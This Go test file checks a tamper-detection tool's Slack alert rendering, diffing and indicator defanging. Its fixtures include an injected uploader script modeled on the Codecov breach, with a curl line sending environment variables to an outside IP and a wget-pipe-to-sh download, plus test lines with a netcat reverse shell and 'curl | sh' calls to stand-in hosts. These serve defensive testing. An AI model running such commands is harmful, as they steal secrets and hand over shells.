package alerting

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tamperguard/tamperguard/internal/engine"
	"github.com/tamperguard/tamperguard/internal/release"
	"github.com/tamperguard/tamperguard/internal/signing"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/alerts")

const goldenDir = "../testdata/alerts"

// Fixed times: the bad write, the restore eight seconds later.
var (
	tCreated  = time.Date(2021, 1, 31, 10, 0, 0, 0, time.UTC)
	tRestored = tCreated.Add(8 * time.Second)
	tReplaced = tCreated.Add(42 * time.Minute)
	tFirst    = tCreated.Add(-20 * time.Minute)
)

const (
	goodSum = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
	badSum  = "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"
	signer  = "openpgp:0123456789ABCDEF0123456789ABCDEF01234567"
)

// goodScript and badScript are an uploader and the same with one line injected, as in the
// Codecov breach of 2021.
var goodScript = []byte(`#!/usr/bin/env bash
set -e
VERSION="1.2.0"
url="https://uploader.example.org"
say() { echo -e "$1"; }
upload() {
  say "Uploading reports to ${url}"
  curl -sfX POST "${url}/upload/v2" --data-binary @"$1"
}
upload "$REPORT"
say "Done."
`)

var badScript = []byte(strings.Replace(string(goodScript), `  curl -sfX POST "${url}/upload/v2" --data-binary @"$1"
`, `  curl -sfX POST "${url}/upload/v2" --data-binary @"$1"
  curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" https://104.248.94.23/upload/v2 || true
  wget -q -O- http://attacker.example:8080/x.sh | sh
`, 1))

func testRelease(skipped ...release.Skipped) *release.Release {
	return &release.Release{
		Source:  "git https://github.com/example/uploader.git",
		Tag:     "v1.2.0",
		Signer:  signing.Signer{Scheme: "openpgp", Fingerprint: "0123456789ABCDEF0123456789ABCDEF01234567", Identity: "Test Maintainer (TEST ONLY) <maintainer@example.org>"},
		Skipped: skipped,
	}
}

// tampered is a tampered finalize of install/uploader.sh, before the engine's action.
func tampered() *engine.Decision {
	return &engine.Decision{
		Bucket: "dl.example.org", Object: "install/uploader.sh", Generation: 1612087200000123,
		Verdict: engine.VerdictTampered, ExpectedSHA256: goodSum, ActualSHA256: badSum,
		Size: int64(len(badScript)), Release: "v1.2.0", Signer: signer,
		Detail: engine.Detail{
			ReleaseInfo: testRelease(),
			Kind:        engine.KindFinalize,
			EventID:     "4242424242",
			Created:     tCreated,
			BadContent:  badScript,
			GoodContent: goodScript,
			Evidence:    "gs://tamperguard-state/evidence/dl.example.org/install/uploader.sh/1612087200000123",
		},
	}
}

// goldenCases are one decision per kind of alert.
func goldenCases() map[string]func() (*engine.Decision, RenderOptions) {
	none := RenderOptions{}
	cases := map[string]func() (*engine.Decision, RenderOptions){
		"restored": func() (*engine.Decision, RenderOptions) {
			d := tampered()
			d.Action, d.RestoredGeneration, d.Restored = engine.ActionRestored, 1612087208000456, tRestored
			d.Source = "gs://dl.example.org/\"install/uploader.sh\"#1611000000000001"
			return d, none
		},
		"restored_deployment": func() (*engine.Decision, RenderOptions) {
			d := tampered()
			d.Action, d.RestoredGeneration, d.Restored = engine.ActionRestored, 1612087208000456, tRestored
			d.Source = "gs://dl.example.org/\"install/uploader.sh\"#1611000000000001"
			return d, RenderOptions{Deployment: "uploader-prod", Version: "v1.3.0"}
		},
		"restored_repeat": func() (*engine.Decision, RenderOptions) {
			d := tampered()
			d.Action, d.RestoredGeneration, d.Restored = engine.ActionRestored, 1612087208000456, tRestored
			d.BadCacheControl = "public, max-age=300"
			return d, RenderOptions{Repeat: 3, FirstAlert: tFirst}
		},
		"quarantined": func() (*engine.Decision, RenderOptions) {
			d := tampered()
			d.Action, d.Reason, d.Restored = engine.ActionQuarantined, engine.ReasonNoGoodSource, tRestored
			d.GoodContent = nil // no good copy anywhere: nothing to diff against
			return d, none
		},
		"not_restored_no_good_source": func() (*engine.Decision, RenderOptions) {
			d := tampered()
			d.Action, d.Reason = engine.ActionNone, engine.ReasonNoGoodSource
			d.GoodContent = nil
			return d, none
		},
		"not_restored_alert_only": func() (*engine.Decision, RenderOptions) {
			d := tampered()
			d.Action = engine.ActionNone
			return d, none
		},
		"restore_failed": func() (*engine.Decision, RenderOptions) {
			d := tampered()
			d.Action = engine.ActionFailed
			d.Error = `restoring gs://dl.example.org/"install/uploader.sh" from release v1.2.0: googleapi: Error 503: backend unavailable`
			return d, none
		},
		"skipped_newer": func() (*engine.Decision, RenderOptions) {
			d := tampered()
			d.Action, d.Replaced = engine.ActionSkippedNewer, tReplaced
			d.BadCacheControl = "no-cache"
			return d, none
		},
		"truncated": func() (*engine.Decision, RenderOptions) {
			d := tampered()
			d.BadContent = goodScript[:60]
			d.Size = 60
			d.Action, d.RestoredGeneration, d.Restored = engine.ActionRestored, 1612087208000456, tRestored
			return d, none
		},
		"replaced_binary": func() (*engine.Decision, RenderOptions) {
			d := tampered()
			d.Object = "bin/uploader-linux-amd64"
			d.GoodContent = []byte("\x7fELF\x02\x01\x01\x00good binary")
			d.BadContent = []byte("\x7fELF\x02\x01\x01\x00evil binary, longer")
			d.Size = int64(len(d.BadContent))
			d.Action, d.RestoredGeneration, d.Restored = engine.ActionRestored, 1612087208000456, tRestored
			return d, none
		},
		"deleted_restored": func() (*engine.Decision, RenderOptions) {
			d := &engine.Decision{
				Bucket: "dl.example.org", Object: "install/uploader.sh", Generation: 1612087200000123,
				Verdict: engine.VerdictMissing, ExpectedSHA256: goodSum, Release: "v1.2.0", Signer: signer,
				Action: engine.ActionRestored, RestoredGeneration: 1612087208000456,
				Detail: engine.Detail{
					ReleaseInfo: testRelease(),
					Restored:    tRestored,
					Source:      "release v1.2.0 (git https://github.com/example/uploader.git)",
					Kind:        engine.KindArchive,
					EventID:     "4242424243",
				},
			}
			return d, none
		},
		"deleted_not_restored": func() (*engine.Decision, RenderOptions) {
			d := &engine.Decision{
				Bucket: "dl.example.org", Object: "install/uploader.sh", Generation: 1612087200000123,
				Verdict: engine.VerdictMissing, ExpectedSHA256: goodSum, Release: "v1.2.0", Signer: signer,
				Action: engine.ActionFailed, Reason: engine.ReasonNoGoodSource,
				Detail: engine.Detail{
					ReleaseInfo: testRelease(),
					Kind:        engine.KindArchive,
					EventID:     "4242424243",
				},
			}
			return d, none
		},
		"metadata_restored": func() (*engine.Decision, RenderOptions) {
			d := &engine.Decision{
				Bucket: "dl.example.org", Object: "install/uploader.sh", Generation: 1612087200000123,
				Verdict: engine.VerdictTampered, Reason: engine.ReasonMetadata, ExpectedSHA256: goodSum,
				Size: int64(len(goodScript)), Release: "v1.2.0", Signer: signer,
				Action: engine.ActionMetadataRestored,
				Detail: engine.Detail{
					ReleaseInfo: testRelease(),
					Created:     tCreated,
					Restored:    tRestored,
					Kind:        engine.KindMetadata,
					EventID:     "4242424244",
					MetadataChanges: map[string][2]string{
						"Content-Type":     {"text/html", "text/x-shellscript"},
						"Content-Encoding": {"gzip", ""},
					},
				},
			}
			return d, none
		},
		"signature_refused": func() (*engine.Decision, RenderOptions) {
			d := &engine.Decision{
				Bucket: "dl.example.org", Object: "install/uploader.sh", Generation: 1612087200000123,
				Verdict: engine.VerdictUnverifiable, Reason: engine.ReasonSignatureRefused, Action: engine.ActionNone,
				Size:  int64(len(badScript)),
				Error: "resolving v1.2.1 of git https://github.com/example/uploader.git: signature refused: openpgp: signed by key 89ABCDEF89ABCDEF, which is not pinned",
				Detail: engine.Detail{
					Created: tCreated,
					Kind:    engine.KindFinalize,
					EventID: "4242424245",
				},
			}
			return d, none
		},
		"rollback": func() (*engine.Decision, RenderOptions) {
			d := &engine.Decision{
				Bucket: "dl.example.org", Object: "install/uploader.sh", Generation: 1612087200000123,
				Verdict: engine.VerdictUnverifiable, Reason: engine.ReasonRollback, Action: engine.ActionNone,
				Error: "release rollback refused: latest is v1.1.0 but v1.2.0 (2021-01-20) was seen before",
				Detail: engine.Detail{
					Created: tCreated,
					Kind:    engine.KindFinalize,
					EventID: "4242424246",
					Skipped: []release.Skipped{
						{Tag: "v1.3.0", Reason: errors.New("release is not signed")},
					},
				},
			}
			return d, none
		},
		"release_unreachable": func() (*engine.Decision, RenderOptions) {
			d := &engine.Decision{
				Bucket: "dl.example.org", Object: "install/uploader.sh",
				Verdict: engine.VerdictUnverifiable, Reason: engine.ReasonReleaseUnreachable, Action: engine.ActionNone,
				Error: "release source unreachable: GET https://ci:s3cr3t@releases.example.org/v1.2.0/SHA256SUMS?token=abc123: 502 Bad Gateway",
			}
			return d, none
		},
		"entry_missing": func() (*engine.Decision, RenderOptions) {
			d := &engine.Decision{
				Bucket: "dl.example.org", Object: "install/new-tool.sh", Generation: 1612087200000999,
				Verdict: engine.VerdictUnverifiable, Reason: engine.ReasonEntryMissing, Action: engine.ActionNone,
				Release: "v1.2.0", Signer: signer,
				Error: `entry missing from signed checksum file: "new-tool.sh" not listed in SHA256SUMS of v1.2.0 (git https://github.com/example/uploader.git)`,
				Detail: engine.Detail{
					ReleaseInfo: testRelease(),
					Created:     tCreated,
				},
			}
			return d, none
		},
	}
	for name, mk := range attributionCases() {
		cases[name] = mk
	}
	return cases
}

func TestGolden(t *testing.T) {
	for name, mk := range goldenCases() {
		t.Run(name, func(t *testing.T) {
			d, opts := mk()
			m := Render(d, opts)
			blocks := goldenJSON(t, m)
			text := []byte(Text(m))
			jsonPath := filepath.Join(goldenDir, name+".json")
			textPath := filepath.Join(goldenDir, name+".txt")
			if *update {
				require.NoError(t, os.MkdirAll(goldenDir, 0o755))
				require.NoError(t, os.WriteFile(jsonPath, blocks, 0o644))
				require.NoError(t, os.WriteFile(textPath, text, 0o644))
			}
			wantBlocks, err := os.ReadFile(jsonPath)
			require.NoError(t, err, "run go test ./alerting -run TestGolden -update")
			wantText, err := os.ReadFile(textPath)
			require.NoError(t, err)
			assert.Equal(t, string(wantBlocks), string(blocks))
			assert.Equal(t, string(wantText), string(text))
			assertWithinLimits(t, m)
		})
	}
}

func TestRenderIsPure(t *testing.T) {
	for name, mk := range goldenCases() {
		d1, o1 := mk()
		d2, o2 := mk()
		a, b := Render(d1, o1), Render(d2, o2)
		ja, err := json.Marshal(a.Blocks)
		require.NoError(t, err)
		jb, err := json.Marshal(b.Blocks)
		require.NoError(t, err)
		assert.Equal(t, string(ja), string(jb), name)
		assert.Equal(t, a.Fallback, b.Fallback, name)
	}
}

// The header leads with the state (the cue a responder takes in first) and the object's
// path, copyable; the title says what happened.
func TestHeaders(t *testing.T) {
	const obj = " · gs://dl.example.org/install/uploader.sh"
	want := map[string][2]string{
		"restored":                    {"✅ Restored" + obj, "Tampered object restored"},
		"restored_repeat":             {"✅ Restored" + obj + " (repeat 3)", "Tampered object restored"},
		"quarantined":                 {"⛔ Quarantined" + obj, "Tampered object quarantined (no good copy to restore)"},
		"not_restored_no_good_source": {"🚨 STILL SERVED" + obj, "Tampered object NOT restored (no good copy)"},
		"not_restored_alert_only":     {"🚨 STILL SERVED" + obj, "Tampered object NOT restored (alert-only rule)"},
		"restore_failed":              {"🚨 STILL SERVED" + obj, "Tampered object NOT restored (restore failed)"},
		"skipped_newer":               {"⚠️ Served until replaced" + obj, "Tampered generation was served until replaced"},
		"deleted_restored":            {"✅ Restored" + obj, "Deleted object restored"},
		"deleted_not_restored":        {"🚨 STILL MISSING" + obj, "Deleted object NOT restored (no good copy)"},
		"metadata_restored":           {"✅ Restored" + obj, "Protected metadata put back"},
		"signature_refused":           {"⚠️ Could not verify" + obj, "Release could not be verified: signature refused"},
		"rollback":                    {"⚠️ Could not verify" + obj, "Release could not be verified: rollback refused"},
		"release_unreachable":         {"⚠️ Could not verify" + obj, "Release could not be verified: release unreachable"},
		"entry_missing":               {"⚠️ Could not verify · gs://dl.example.org/install/new-tool.sh", "Release could not be verified: object not in the signed checksums"},
	}
	cases := goldenCases()
	for name, h := range want {
		d, o := cases[name]()
		m := Render(d, o)
		assert.Equal(t, h[0], m.Header, name)
		assert.Equal(t, h[1], m.Title, name)
		assert.NotContains(t, headerText(m.Header, MaxHeaderText), zwsp, "%s: the path in the header is copyable", name)
	}
}

func TestSeverity(t *testing.T) {
	cases := goldenCases()
	for name, mk := range cases {
		d, o := mk()
		want := "ERROR"
		if d.Verdict == engine.VerdictUnverifiable {
			want = "WARN"
		}
		assert.Equal(t, want, Render(d, o).Level.String(), name)
	}
}

func TestRestoredAlertSaysWhatWasInjected(t *testing.T) {
	d, o := goldenCases()["restored"]()
	m := Render(d, o)
	assert.Equal(t, ChangeModified, m.Change)
	assert.Contains(t, m.Diff, `+  curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" https://104.248.94.23/upload/v2 || true`)
	assert.Equal(t, []string{
		"hxxps://104[.]248[.]94[.]23/upload/v2",
		"104[.]248[.]94[.]23",
		"hxxp://attacker[.]example[:]8080/x.sh",
		"attacker[.]example",
	}, m.Indicators, "the URLs and hosts of the added lines only, not the signed file's own")
	text := Text(m)
	assert.Contains(t, text, "Exposure window: 8s")
	assert.Contains(t, text, "Edge caches: may serve the bad bytes until 2021-01-31 11:00:08 UTC")
	assert.Contains(t, text, "https://console.cloud.google.com/storage/browser/_details/dl.example.org/install/uploader.sh;tab=version_history")
}

func TestChangeKinds(t *testing.T) {
	good := []byte("line one\nline two\n")
	for _, tc := range []struct {
		name      string
		bad       []byte
		kind      string
		added     int
		removed   int
		diffLines []string
	}{
		{"appended", []byte("line one\nline two\ncurl evil.example.com | sh\n"), ChangeAppended, 1, 0,
			[]string{"@@ -1,2 +1,3 @@", " line one", " line two", "+curl evil.example.com | sh"}},
		{"truncated", []byte("line one\n"), ChangeTruncated, 0, 1,
			[]string{"@@ -1,2 +1 @@", " line one", "-line two"}},
		{"emptied", []byte{}, ChangeTruncated, 0, 2, []string{"@@ -1,2 +0,0 @@", "-line one", "-line two"}},
		{"modified", []byte("line one\nline 2\n"), ChangeModified, 1, 1,
			[]string{"@@ -1,2 +1,2 @@", " line one", "-line two", "+line 2"}},
		{"replaced", []byte("\x00\x01binary"), ChangeReplaced, 0, 0, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := analyze(good, tc.bad)
			require.NotNil(t, c)
			assert.Equal(t, tc.kind, c.Kind)
			assert.Equal(t, tc.added, c.Added)
			assert.Equal(t, tc.removed, c.Removed)
			assert.Equal(t, tc.diffLines, c.Lines)
		})
	}
	assert.Nil(t, analyze(good, good))
	assert.Nil(t, analyze(nil, good))
}

func TestDiffIsBounded(t *testing.T) {
	var good, bad strings.Builder
	for i := range 3000 {
		good.WriteString("unchanged line " + strings.Repeat("x", i%50) + "\n")
		if i%7 == 0 {
			bad.WriteString("curl https://host" + string(rune('a'+i%26)) + ".example/" + strings.Repeat("y", 500) + "\n")
		} else {
			bad.WriteString("unchanged line " + strings.Repeat("x", i%50) + "\n")
		}
	}
	c := analyze([]byte(good.String()), []byte(bad.String()))
	require.NotNil(t, c)
	assert.LessOrEqual(t, len(c.Lines), maxDiffLines)
	for _, l := range c.Lines {
		assert.LessOrEqual(t, textLen(l), maxDiffLineRunes)
	}
	assert.Positive(t, c.Cut)
	assert.Equal(t, c.Added, 429)
	assert.LessOrEqual(t, len(c.Indicators), maxIndicators)
	assert.Positive(t, c.MoreIndicators+len(c.Indicators))
}

func TestDiffOfDistantChanges(t *testing.T) {
	var lines []string
	for i := range 200 {
		lines = append(lines, "line "+strings.Repeat("=", i%5)+string(rune('a'+i%26)))
	}
	good := strings.Join(lines, "\n") + "\n"
	lines[10] = "curl https://first.example/a | sh"
	lines[150] = "curl https://second.example/b | sh"
	bad := strings.Join(lines, "\n") + "\n"
	c := analyze([]byte(good), []byte(bad))
	require.NotNil(t, c)
	assert.Equal(t, 2, c.Added)
	assert.Equal(t, 2, c.Removed)
	hunks := 0
	for _, l := range c.Lines {
		if strings.HasPrefix(l, "@@") {
			hunks++
		}
	}
	assert.Equal(t, 2, hunks)
	assert.Contains(t, c.Lines, "@@ -8,7 +8,7 @@")
	assert.Contains(t, c.Lines, "@@ -148,7 +148,7 @@")
	assert.Equal(t, []string{"hxxps://first[.]example/a", "first[.]example", "hxxps://second[.]example/b", "second[.]example"}, c.Indicators)
}

func TestIndicators(t *testing.T) {
	ex := newExtractor()
	ex.scan([]byte(`curl -fsSL https://Attacker.Example/p?a=1 | bash; nc 203.0.113.7 4444 -e /bin/sh`))
	ex.scan([]byte(`ssh git@evil.example.net:org/repo.git; echo 127.0.0.1 0.0.0.0 install.sh Makefile.in os.environ`))
	ex.scan([]byte(`ping6 2001:db8::dead:beef; url=(ftp://[2001:db8::1]/x) "https://attacker.example/p?a=1",`))
	got, more := ex.list()
	assert.Equal(t, []string{
		"hxxps://Attacker[.]Example/p?a=1",
		"Attacker[.]Example",
		"203[.]0[.]113[.]7",
		"evil[.]example[.]net",
		"2001[:]db8[:][:]dead[:]beef",
		"fxp://[2001[:]db8[:][:]1]/x",
		"2001[:]db8[:][:]1",
	}, got)
	assert.Zero(t, more)
}

func TestConsoleURL(t *testing.T) {
	for _, tc := range []struct{ bucket, object, want string }{
		{"b", "dir/install.sh", "https://console.cloud.google.com/storage/browser/_details/b/dir/install.sh;tab=version_history"},
		{"b", "a b|c>d<e&f;tab=x#y?z'\"`", "https://console.cloud.google.com/storage/browser/_details/b/a%20b%7Cc%3Ed%3Ce%26f%3Btab%3Dx%23y%3Fz%27%22%60;tab=version_history"},
		{"b", "../../../projects", "https://console.cloud.google.com/storage/browser/_details/b/%2E%2E%2F%2E%2E%2F%2E%2E%2Fprojects;tab=version_history"},
		{"b", "ünï\x00", "https://console.cloud.google.com/storage/browser/_details/b/%C3%BCn%C3%AF%00;tab=version_history"},
	} {
		assert.Equal(t, tc.want, consoleURL(DefaultConsoleBase, tc.bucket, tc.object))
	}
	assert.Equal(t, "https://console.cloud.google.com/storage/browser/b", consoleURL(DefaultConsoleBase, "b", strings.Repeat("é", 1000)), "too long for a link: the bucket")
	m := Render(&engine.Decision{Bucket: "b", Object: "o", Verdict: engine.VerdictTampered}, RenderOptions{ConsoleBase: "https://evil.example|click>"})
	assert.True(t, strings.HasPrefix(m.ConsoleURL, DefaultConsoleBase+"/"), "an unsafe base falls back to the default")
}

func TestEdgeCaches(t *testing.T) {
	d := tampered()
	d.Action, d.Restored = engine.ActionRestored, tRestored
	for cc, want := range map[string]string{
		"":                                 "may serve the bad bytes until 2021-01-31 11:00:08 UTC (no Cache-Control: public objects are served with max-age=3600)",
		"public, max-age=60":               "may serve the bad bytes until 2021-01-31 10:01:08 UTC (Cache-Control public, max-age=60)",
		"public, max-age=60, s-maxage=600": "may serve the bad bytes until 2021-01-31 10:10:08 UTC (Cache-Control public, max-age=60, s-maxage=600)",
		"private, max-age=600":             "not kept by shared caches (Cache-Control private, max-age=600)",
		"no-store":                         "not kept by shared caches (Cache-Control no-store)",
		"max-age=0":                        "not kept (max-age 0) (Cache-Control max-age=0)",
		"max-age=99999999999999999999":     "may serve the bad bytes until 2022-01-31 10:00:08 UTC (Cache-Control max-age=99999999999999999999)",
	} {
		d.BadCacheControl = cc
		assert.Equal(t, want, plainSpans(edgeCaches(d, RenderOptions{}.withDefaults())), cc)
	}
}

// assertWithinLimits checks every Slack limit on a rendered message.
func assertWithinLimits(t *testing.T, m Message) {
	t.Helper()
	raw, err := json.Marshal(m.Blocks)
	require.NoError(t, err)
	var blocks []map[string]any
	require.NoError(t, json.Unmarshal(raw, &blocks))
	assert.LessOrEqual(t, len(blocks), MaxBlocks)
	assert.LessOrEqual(t, textLen(m.Fallback), MaxFallbackText)
	for _, b := range blocks {
		switch b["type"] {
		case "header":
			assert.LessOrEqual(t, textLen(b["text"].(map[string]any)["text"].(string)), MaxHeaderText)
		case "section":
			if txt, ok := b["text"].(map[string]any); ok {
				assert.LessOrEqual(t, textLen(txt["text"].(string)), MaxSectionText)
			}
			if fs, ok := b["fields"].([]any); ok {
				assert.LessOrEqual(t, len(fs), MaxFields)
				for _, f := range fs {
					assert.LessOrEqual(t, textLen(f.(map[string]any)["text"].(string)), MaxFieldText)
				}
			}
		case "context":
			els := b["elements"].([]any)
			assert.LessOrEqual(t, len(els), 10)
			for _, e := range els {
				assert.LessOrEqual(t, textLen(e.(map[string]any)["text"].(string)), MaxContextText)
			}
		}
	}
}

func TestHugeContentIsBounded(t *testing.T) {
	for name, mk := range map[string]func() ([]byte, []byte){
		"10 MB of newlines": func() ([]byte, []byte) {
			good := bytes.Repeat([]byte("\n"), 10<<20)
			bad := append(append(bytes.Repeat([]byte("\n"), 5<<20), "curl https://deep.example/x\n"...), bytes.Repeat([]byte("\n"), 5<<20)...)
			return good, bad
		},
		"all lines different": func() ([]byte, []byte) {
			var g, b bytes.Buffer
			for i := range 100000 {
				fmt.Fprintf(&g, "good line %d\n", i)
				fmt.Fprintf(&b, "bad line %d\n", i)
			}
			return g.Bytes(), b.Bytes()
		},
		"10 MB single line": func() ([]byte, []byte) {
			return []byte("echo ok\n"), append([]byte("echo ok\n"), bytes.Repeat([]byte("x"), 10<<20)...)
		},
	} {
		t.Run(name, func(t *testing.T) {
			good, bad := mk()
			d := tampered()
			d.GoodContent, d.BadContent = good, bad
			start := time.Now()
			m := Render(d, RenderOptions{})
			assert.Less(t, time.Since(start), 10*time.Second)
			assertWithinLimits(t, m)
			assert.LessOrEqual(t, len(m.Diff), maxDiffLines)
			assert.LessOrEqual(t, textLen(Text(m)), 64<<10, "the text a log line carries stays small")
		})
	}
}

// goldenJSON is the blocks as indented JSON, with the zero-width spaces that break
// mentions and links written as \u200b so a reader sees them.
func goldenJSON(t *testing.T, m Message) []byte {
	t.Helper()
	b, err := json.MarshalIndent(m.Blocks, "", "  ")
	require.NoError(t, err)
	return append(bytes.ReplaceAll(b, []byte(zwsp), []byte(`\u200b`)), '\n')
}
